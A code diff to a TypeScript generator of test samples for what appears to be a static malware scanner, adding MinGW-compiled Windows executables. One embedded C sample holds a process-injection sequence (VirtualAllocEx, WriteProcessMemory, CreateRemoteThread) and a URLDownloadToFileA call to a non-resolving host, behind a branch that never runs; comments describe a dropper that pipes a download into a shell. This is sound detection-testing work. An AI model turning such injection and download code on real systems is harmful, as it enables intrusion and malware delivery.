@@ -1,13 +1,15 @@
+import { spawnSync } from 'node:child_process';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeZip } from './containers';
-import { cleanPdf, eicar, javascriptPdf, makeDocx, makePe } from './documents';
+import { cleanPdf, eicar, javascriptPdf, makeDocx } from './documents';
 import { python } from './engine';
 
 /**
  * The static engine's acceptance corpus, generated into a directory: every sample is inert (the
- * EICAR string, a macro that would echo, a PDF that would alert, a PE whose entry is `ret`, a
- * dropper script whose URL is `.invalid`), and nothing here is committed as a file.
+ * EICAR string, a macro that would echo, a PDF that would alert, Windows programs whose injection
+ * code is behind a branch that never runs, a dropper script whose URL is `.invalid`), and nothing
+ * here is committed as a file.
  */
 
 /** A dropper script: downloads from a name that cannot resolve and pipes it into a shell. */
@@ -28,6 +30,42 @@ with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryptio
 export function writeAesZip(path: string, password: string, member: string, data: string): string {
   python(AES_ZIP, [path, password, member, data]);
   return path;
+}
+
+/** Process injection and a download, in code that never runs (the branch needs 1,000 arguments). */
+const INJECTOR_C = `#include <windows.h>
+#include <urlmon.h>
+int main(int argc, char **argv) {
+  if (argc > 1000) {
+    HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, 0);
+    LPVOID m = VirtualAllocEx(p, NULL, 16, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
+    WriteProcessMemory(p, m, "", 0, NULL);
+    CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)m, NULL, 0, NULL);
+    URLDownloadToFileA(NULL, "http://example.invalid/x", "x", 0, NULL);
+  }
+  return 0;
+}
+`;
+const HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n';
+
+/** The MinGW-w64 cross compiler `.ci/run` installs (Debian's gcc-mingw-w64-x86-64-win32). */
+export const MINGW = 'x86_64-w64-mingw32-gcc';
+
+/** Compiles C into a 64-bit Windows executable with MinGW-w64; says how to install it when it is missing. */
+export function compileWindowsExe(dir: string, name: string, source: string, libraries: string[] = []): Buffer {
+  const c = join(dir, `${name}.c`);
+  const exe = join(dir, `${name}.exe`);
+  writeFileSync(c, source);
+  const built = spawnSync(MINGW, ['-O2', '-s', '-o', exe, c, ...libraries.map((l) => `-l${l}`)], {
+    encoding: 'utf8',
+    timeout: 60_000,
+  });
+  if (built.status !== 0)
+    throw new Error(
+      `${MINGW} could not build ${name}.exe (${built.error?.message ?? built.stderr}); ` +
+        'install it with: apt-get install gcc-mingw-w64-x86-64-win32',
+    );
+  return readFileSync(exe);
 }
 
 /** A copy of /bin/true carrying UPX's markers (no UPX in this Debian mirror to pack a real one). */
@@ -87,17 +125,14 @@ export function writeCorpus(dir: string): CorpusSample[] {
     { name: 'paper.pdf', data: cleanPdf(), verdict: 'benign', threats: [], findings: [] },
     {
       name: 'injector.exe',
-      data: makePe({
-        'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'ExitProcess'],
-        'urlmon.dll': ['URLDownloadToFileA'],
-      }),
+      data: compileWindowsExe(dir, 'injector', INJECTOR_C, ['urlmon']),
       verdict: 'malicious',
       threats: ['Heuristic.PE.ProcessInjection'],
       findings: ['pe.injection-imports', 'pe.download-imports'],
     },
     {
       name: 'hello.exe',
-      data: makePe({ 'KERNEL32.dll': ['GetStdHandle', 'WriteFile', 'ExitProcess'] }, { plain: true }),
+      data: compileWindowsExe(dir, 'hello', HELLO_C),
       verdict: 'benign',
       threats: [],
       findings: [],
